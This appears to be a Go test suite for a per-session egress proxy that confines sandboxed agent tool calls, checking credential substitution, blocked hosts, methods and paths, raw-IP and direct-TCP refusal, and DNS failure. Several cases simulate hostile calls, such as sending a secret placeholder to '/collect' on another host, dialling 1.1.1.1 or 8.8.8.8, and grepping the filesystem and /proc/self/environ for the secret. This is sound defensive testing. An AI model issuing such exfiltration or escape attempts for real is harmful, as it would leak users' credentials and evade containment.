package sandboxtest

// The egress suite: a sandbox's one way out is its session's egress proxy
// (internal/egress), started by an egress.Manager as the worker starts it.
// Each case is a request a hostile tool call would make, driven from inside
// a real sandbox with python3's standard library.

import (
	"context"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/perimeterhq/perimeter/internal/egress"
	"github.com/perimeterhq/perimeter/internal/sandbox"
	"github.com/perimeterhq/perimeter/internal/sandbox/pool"
	"github.com/perimeterhq/perimeter/internal/testenv"
)

// EgressOptions configure RunEgress.
type EgressOptions struct {
	// Dir holds the proxies' sockets; it and its parents must be
	// searchable by the uid the runtime's sandboxes run as. Empty means a
	// new directory in os.TempDir.
	Dir string
}

// upstreamHost is the name the proxy resolves to the loopback upstreams;
// the test server's certificate is valid for it.
const upstreamHost = "example.com"

// otherHost is allowed by a rule but no credential lists it.
const otherHost = "other.example.net"

// echoed is what an upstream received.
type echoed struct {
	Method, Path, Query, Authorization, Body string
}

// egressEnv is the suite's running proxy, upstreams and what they saw.
type egressEnv struct {
	canary   string
	tlsPort  string // the HTTPS upstream's port
	httpPort string // the plain-HTTP upstream's port

	mu      sync.Mutex
	seen    []echoed
	records []egress.Record
	call    string // the "tool call" the records are attributed to
}

func (e *egressEnv) received() []echoed {
	e.mu.Lock()
	defer e.mu.Unlock()
	return append([]echoed(nil), e.seen...)
}

func (e *egressEnv) recorded() []egress.Record {
	e.mu.Lock()
	defer e.mu.Unlock()
	return append([]egress.Record(nil), e.records...)
}

// loopbackResolver resolves every name to 127.0.0.1, where the upstreams
// listen.
type loopbackResolver struct{}

func (loopbackResolver) LookupIPAddr(context.Context, string) ([]net.IPAddr, error) {
	return []net.IPAddr{{IP: net.IPv4(127, 0, 0, 1)}}, nil
}

// RunEgress runs the egress suite against sandboxes of rt, each reaching a
// real per-session proxy through the runtime's egress mounts.
func RunEgress(t *testing.T, rt sandbox.Runtime, opts EgressOptions) {
	if opts.Dir == "" {
		opts.Dir = testenv.ShortDir(t)
	}
	e := &egressEnv{canary: "canary-" + randomHex(12)}
	echo := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		got := echoed{Method: r.Method, Path: r.URL.Path, Query: r.URL.RawQuery, Authorization: r.Header.Get("Authorization"), Body: string(body)}
		e.mu.Lock()
		e.seen = append(e.seen, got)
		e.mu.Unlock()
		// The upstream echoes what it received, secret values included:
		// the proxy must redact them on the way back.
		_ = json.NewEncoder(w).Encode(got)
	})
	tlsSrv := httptest.NewTLSServer(echo)
	t.Cleanup(tlsSrv.Close)
	httpSrv := httptest.NewServer(echo)
	t.Cleanup(httpSrv.Close)
	_, e.tlsPort, _ = net.SplitHostPort(tlsSrv.Listener.Addr().String())
	_, e.httpPort, _ = net.SplitHostPort(httpSrv.Listener.Addr().String())
	roots := x509.NewCertPool()
	roots.AddCert(tlsSrv.Certificate())

	ports := func(ps ...string) []int {
		var out []int
		for _, p := range ps {
			var n int
			fmt.Sscan(p, &n)
			out = append(out, n)
		}
		return out
	}
	cfg := egress.Config{
		Rules: []egress.Rule{
			{Name: "upstream api", Hosts: []string{upstreamHost}, Ports: ports(e.tlsPort, e.httpPort),
				Methods: []string{"GET", "POST"}, PathPrefixes: []string{"/api"}, AllowPrivate: true},
			{Name: "other", Hosts: []string{otherHost}, Ports: ports(e.httpPort), AllowPrivate: true},
		},
		Credentials: []egress.EnvCredential{{
			Credential: egress.Credential{Name: "canary", Hosts: []string{upstreamHost}, In: []string{"header", "query"}},
			Env:        "CANARY_TOKEN",
		}},
	}
	m, err := egress.NewManager(egress.ManagerOptions{
		Dir: opts.Dir, Config: func() egress.Config { return cfg },
		Secrets:  staticSecret{"canary": e.canary},
		RootCAs:  roots,
		Resolver: loopbackResolver{},
	})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := m.Open(egress.SessionOptions{
		SessionID: "sesn_egress_" + randomHex(4),
		OnRecord: func(r egress.Record) {
			e.mu.Lock()
			e.records = append(e.records, r)
			e.mu.Unlock()
		},
		CurrentCall: func() string {
			e.mu.Lock()
			defer e.mu.Unlock()
			return e.call
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := sess.Close(); err != nil {
			t.Errorf("closing the session's egress: %v", err)
		}
	})
	env := AllowList()
	for k, v := range sess.Env {
		env[k] = v
	}
	ctx, cancel := context.WithTimeout(context.Background(), callTimeout)
	defer cancel()
	sb, err := rt.Create(ctx, sandbox.Spec{
		SessionID: egressSessionID, WorkID: "work_egress", Workspace: t.TempDir(),
		Env: env, Egress: sess.Sandbox,
	})
	if err != nil {
		t.Fatalf("%s: Create: %v", rt.Name(), err)
	}
	t.Cleanup(func() { _ = sb.Close(context.Background()) })
	b := &box{Sandbox: sb}

	// Run the cases in order: each looks at what the upstreams and the
	// records gained.
	t.Run("CredentialIsSubstitutedOnlyUpstream", func(t *testing.T) { testCredential(t, e, b) })
	t.Run("BlockedHostIsRefusedNamingTheFix", func(t *testing.T) { testBlockedHost(t, e, b) })
	t.Run("BlockedMethodAndPathAreRefused", func(t *testing.T) { testBlockedMethodPath(t, e, b) })
	t.Run("PlaceholderToAnotherHostIsRefused", func(t *testing.T) { testPlaceholderElsewhere(t, e, b) })
	t.Run("RawIPAddressIsRefused", func(t *testing.T) { testRawIP(t, e, b) })
	t.Run("DirectTCPWithoutTheProxyFails", func(t *testing.T) { testDirectTCP(t, e, b) })
	t.Run("DNSLookupsFail", func(t *testing.T) { testDNS(t, b) })
	t.Run("SandboxHoldsOnlyThePlaceholder", func(t *testing.T) { testOnlyPlaceholder(t, e, b) })
}

// RunEgressWarm runs the egress cases on a sandbox from a warm pool of rt:
// the sandbox starts before the session, with the pool's socket and an
// empty CA bundle mounted; at the hand-over the session's proxy takes over
// the socket, its CA bundle is written into the mounted file, and its
// variables (the proxy's, the placeholder) are set in the running sandbox.
// Every case must hold as for a cold sandbox, and the session must get the
// warm one.
func RunEgressWarm(t *testing.T, rt sandbox.Runtime, opts EgressOptions) {
	if opts.Dir == "" {
		opts.Dir = testenv.ShortDir(t)
	}
	rec := &creations{Runtime: rt}
	p, err := pool.New(rec, pool.Options{Size: 1, Dir: filepath.Join(opts.Dir, "pool"), Env: AllowList(), Egress: true,
		Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close() })
	deadline := time.Now().Add(2 * time.Minute)
	for p.Ready() < 1 {
		if time.Now().After(deadline) {
			t.Fatalf("%s: no warm sandbox within two minutes", rt.Name())
		}
		time.Sleep(10 * time.Millisecond)
	}
	RunEgress(t, p, opts)
	if rec.made(egressSessionID) {
		t.Errorf("%s: the session got a cold sandbox, not the warm one", rt.Name())
	}
}

// creations records the sessions a runtime created sandboxes for.
type creations struct {
	sandbox.Runtime
	mu       sync.Mutex
	sessions []string
}

func (c *creations) Create(ctx context.Context, spec sandbox.Spec) (sandbox.Sandbox, error) {
	c.mu.Lock()
	c.sessions = append(c.sessions, spec.SessionID)
	c.mu.Unlock()
	return c.Runtime.Create(ctx, spec)
}

func (c *creations) made(session string) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return slices.Contains(c.sessions, session)
}

// egressSessionID is the session RunEgress creates its sandbox for.
const egressSessionID = "sesn_egress"

// staticSecret is a secret source with fixed values.
type staticSecret map[string]string

func (s staticSecret) Get(_ context.Context, name string) ([]byte, error) {
	v, ok := s[name]
	if !ok {
		return nil, fmt.Errorf("secret %q: not configured", name)
	}
	return []byte(v), nil
}

// pyRequest is a python3 program making one request through the proxy the
// environment names and printing "STATUS <code>" and the body, or "ERROR"
// and why the request failed.
const pyRequest = `import os, sys, urllib.request, urllib.error
method, url = sys.argv[1], sys.argv[2]
headers = dict(h.split(": ", 1) for h in sys.argv[3:])
headers = {k: os.path.expandvars(v) for k, v in headers.items()}
url = os.path.expandvars(url)
req = urllib.request.Request(url, method=method, headers=headers, data=b"" if method == "POST" else None)
try:
    with urllib.request.urlopen(req, timeout=20) as resp:
        print("STATUS", resp.status)
        print(resp.read().decode())
except urllib.error.HTTPError as e:
    print("STATUS", e.code)
    print(e.read().decode())
except Exception as e:
    print("ERROR", type(e).__name__, e)
`

// request runs pyRequest in the sandbox, attributed to call; headers are
// "Name: value", with $VARS expanded in the sandbox.
func (e *egressEnv) request(t *testing.T, b *box, call, method, url string, headers ...string) string {
	t.Helper()
	e.mu.Lock()
	e.call = call
	e.mu.Unlock()
	args := []string{"python3", "-c", shellQuote(pyRequest), method, shellQuote(url)}
	for _, h := range headers {
		args = append(args, shellQuote(h))
	}
	res := b.run(t, "bash", bash(strings.Join(args, " ")))
	return res.Text
}

func (e *egressEnv) tlsURL(path string) string {
	return "https://" + upstreamHost + ":" + e.tlsPort + path
}

func testCredential(t *testing.T, e *egressEnv, b *box) {
	before := len(e.received())
	out := e.request(t, b, "toolu_credential", "GET", e.tlsURL("/api/user?token=$CANARY_TOKEN"), "Authorization: Bearer $CANARY_TOKEN")
	if !strings.Contains(out, "STATUS 200") {
		t.Fatalf("the allowed request failed:\n%s", out)
	}
	got := e.received()
	if len(got) != before+1 {
		t.Fatalf("the upstream received %d requests, want 1", len(got)-before)
	}
	if r := got[before]; r.Authorization != "Bearer "+e.canary || r.Query != "token="+e.canary {
		t.Errorf("the upstream received Authorization %q, query %q; want the real value in both", r.Authorization, r.Query)
	}
	if strings.Contains(out, e.canary) {
		t.Errorf("the sandbox saw the real value in the upstream's echo:\n%s", out)
	}
	// Basic auth: the placeholder inside the base64 credentials, built
	// by the shell.
	e.mu.Lock()
	e.call = "toolu_basic"
	e.mu.Unlock()
	out = b.run(t, "bash", bash(`python3 -c `+shellQuote(pyRequest)+` GET `+shellQuote(e.tlsURL("/api/basic"))+
		` "Authorization: Basic $(printf 'x-access-token:%s' "$CANARY_TOKEN" | base64 -w0)"`)).Text
	if !strings.Contains(out, "STATUS 200") {
		t.Fatalf("the Basic-auth request failed:\n%s", out)
	}
	got = e.received()
	want := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+e.canary))
	if r := got[len(got)-1]; r.Authorization != want {
		t.Errorf("the upstream received Authorization %q, want the real value inside the Basic credentials", r.Authorization)
	}
	if strings.Contains(out, e.canary) || strings.Contains(out, base64.StdEncoding.EncodeToString([]byte("x-access-token:"+e.canary))) {
		t.Errorf("the sandbox saw the real value:\n%s", out)
	}
	rec := findRecord(t, e, func(r egress.Record) bool { return r.ToolUseID == "toolu_credential" })
	if !rec.Allowed || !rec.Intercepted || rec.Host != upstreamHost || len(rec.Secrets) != 1 || rec.Secrets[0] != "canary" || rec.Rule != "upstream api" {
		t.Errorf("record of the credential request: %+v", rec)
	}
}

func testBlockedHost(t *testing.T, e *egressEnv, b *box) {
	before := len(e.received())
	out := e.request(t, b, "toolu_blocked_http", "GET", "http://blocked.example.org/")
	if !strings.Contains(out, "STATUS 403") || !strings.Contains(out, "blocked.example.org") || !strings.Contains(out, "egress") {
		t.Errorf("plain HTTP to a host no rule allows:\n%s\nwant a 403 naming the host and the egress rules", out)
	}
	out = e.request(t, b, "toolu_blocked_https", "GET", "https://blocked.example.org/")
	if !strings.Contains(out, "ERROR") || !strings.Contains(out, "403") {
		t.Errorf("HTTPS to a host no rule allows:\n%s\nwant the tunnel refused with 403", out)
	}
	if got := len(e.received()); got != before {
		t.Errorf("the upstream received %d requests for blocked hosts", got-before)
	}
	rec := findRecord(t, e, func(r egress.Record) bool { return r.ToolUseID == "toolu_blocked_https" })
	if rec.Allowed || rec.Method != "CONNECT" || rec.Host != "blocked.example.org" {
		t.Errorf("record of the blocked tunnel: %+v", rec)
	}
}

func testBlockedMethodPath(t *testing.T, e *egressEnv, b *box) {
	before := len(e.received())
	for _, c := range []struct{ method, path string }{{"DELETE", "/api/repo"}, {"GET", "/admin"}, {"GET", "/api/../admin"}} {
		out := e.request(t, b, "toolu_method_path", c.method, e.tlsURL(c.path))
		if !strings.Contains(out, "STATUS 403") || !strings.Contains(out, "upstream api") {
			t.Errorf("%s %s:\n%s\nwant a 403 naming the rule", c.method, c.path, out)
		}
	}
	if got := len(e.received()); got != before {
		t.Errorf("the upstream received %d refused requests", got-before)
	}
	if out := e.request(t, b, "toolu_post", "POST", e.tlsURL("/api/issues")); !strings.Contains(out, "STATUS 200") {
		t.Errorf("POST to an allowed path:\n%s", out)
	}
}

func testPlaceholderElsewhere(t *testing.T, e *egressEnv, b *box) {
	before := len(e.received())
	url := "http://" + otherHost + ":" + e.httpPort + "/collect"
	out := e.request(t, b, "toolu_exfiltrate", "GET", url, "X-Stolen: $CANARY_TOKEN")
	if !strings.Contains(out, "STATUS 403") || !strings.Contains(out, "canary") {
		t.Errorf("a placeholder sent to another host:\n%s\nwant a 403 naming the credential", out)
	}
	out = e.request(t, b, "toolu_exfiltrate_query", "GET", url+"?t=$CANARY_TOKEN")
	if !strings.Contains(out, "STATUS 403") {
		t.Errorf("a placeholder in the query to another host:\n%s", out)
	}
	if got := len(e.received()); got != before {
		t.Errorf("the other host received %d requests carrying the placeholder", got-before)
	}
	// Without the placeholder the same host is reachable.
	if out := e.request(t, b, "toolu_other", "GET", url); !strings.Contains(out, "STATUS 200") {
		t.Errorf("the other host without a placeholder:\n%s", out)
	}
}

func testRawIP(t *testing.T, e *egressEnv, b *box) {
	before := len(e.received())
	out := e.request(t, b, "toolu_raw_ip", "GET", "http://93.184.216.34:"+e.httpPort+"/api/x")
	if !strings.Contains(out, "STATUS 403") {
		t.Errorf("plain HTTP to a raw IP address:\n%s\nwant 403", out)
	}
	out = e.request(t, b, "toolu_raw_ip_tls", "GET", "https://93.184.216.34:"+e.tlsPort+"/api/x")
	if !strings.Contains(out, "ERROR") || !strings.Contains(out, "403") {
		t.Errorf("HTTPS to a raw IP address:\n%s\nwant the tunnel refused with 403", out)
	}
	if got := len(e.received()); got != before {
		t.Errorf("the upstream received %d requests by raw IP", got-before)
	}
}

// pyConnect tries a TCP connection to each host:port argument, bypassing
// any proxy, and prints what happened to each.
const pyConnect = `import socket, sys
for a in sys.argv[1:]:
    h, p = a.rsplit(":", 1)
    try:
        socket.create_connection((h, int(p)), 3).close()
        print("CONNECTED", a)
    except Exception as e:
        print("REFUSED", a, type(e).__name__)
`

func testDirectTCP(t *testing.T, e *egressEnv, b *box) {
	out := b.run(t, "bash", bash("python3 -c "+shellQuote(pyConnect)+" 127.0.0.1:"+e.tlsPort+" 127.0.0.1:"+e.httpPort+" 1.1.1.1:443 8.8.8.8:53")).Text
	if strings.Contains(out, "CONNECTED") || strings.Count(out, "REFUSED") != 4 {
		t.Errorf("direct connections from the sandbox:\n%s\nwant all four refused", out)
	}
}

func testDNS(t *testing.T, b *box) {
	out := b.run(t, "bash", bash(`python3 -c 'import socket
for n in ("example.com", "localhost.example.org"):
    try:
        print("RESOLVED", n, socket.getaddrinfo(n, 443))
    except Exception as e:
        print("FAILED", n, type(e).__name__)'`)).Text
	if strings.Contains(out, "RESOLVED") || strings.Count(out, "FAILED") != 2 {
		t.Errorf("DNS lookups in the sandbox:\n%s\nwant both to fail", out)
	}
}

func testOnlyPlaceholder(t *testing.T, e *egressEnv, b *box) {
	out := b.run(t, "bash", bash(`env; cat /proc/self/environ | tr '\0' '\n'; grep -rIl "`+e.canary+`" / 2>/dev/null; echo grep-done`)).Text
	if strings.Contains(out, e.canary) {
		t.Errorf("the real value is readable in the sandbox:\n%s", clip(out, 2000))
	}
	if !strings.Contains(out, "CANARY_TOKEN="+egress.PlaceholderPrefix+"canary:") {
		t.Errorf("the sandbox has no placeholder in CANARY_TOKEN:\n%s", clip(out, 2000))
	}
	for _, r := range e.recorded() {
		if raw, _ := json.Marshal(r); strings.Contains(string(raw), e.canary) {
			t.Errorf("a record holds the real value: %s", raw)
		}
	}
}

// findRecord waits briefly for the record a request produced: the proxy
// emits it when the request's handler returns.
func findRecord(t *testing.T, e *egressEnv, match func(egress.Record) bool) egress.Record {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		for _, r := range e.recorded() {
			if match(r) {
				return r
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("no matching egress record among %d", len(e.recorded()))
		}
		time.Sleep(20 * time.Millisecond)
	}
}
